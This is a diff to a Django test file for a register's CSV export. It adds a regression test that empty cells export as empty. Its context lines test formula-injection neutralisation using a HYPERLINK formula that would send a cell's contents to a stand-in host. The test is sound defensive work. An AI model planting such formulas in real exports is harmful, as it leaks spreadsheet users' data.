@@ -26,3 +26,19 @@ def test_register_csv_neutralises_cells_that_start_a_formula(client, entry, ict_
     assert '\'=HYPERLINK("https://x.example/?"&A1,"x")' in cells
     assert "'@SUM(1)" in cells and "'+44 1234" in cells
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+def test_register_csv_writes_empty_cells_as_empty(client, entry, ict_manager):
+    # Regression: every empty cell was written as '- (the listing's "-", then quoted as a formula).
+    RegisterEntry.objects.filter(pk=entry.pk).update(url="", handle="", notes="", went_live_on=None)
+    client.force_login(ict_manager)
+
+    response = client.get(reverse("forms_app_registerentry_modeladmin_index"), {"export": "csv"})
+
+    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
+    row = next(csv.DictReader(io.StringIO(body)))
+    assert "'-" not in body
+    assert "-" not in row.values()
+    empty = [heading for heading, cell in row.items() if cell == ""]
+    assert len(empty) >= 4, row
+    assert entry.account_name in row.values()
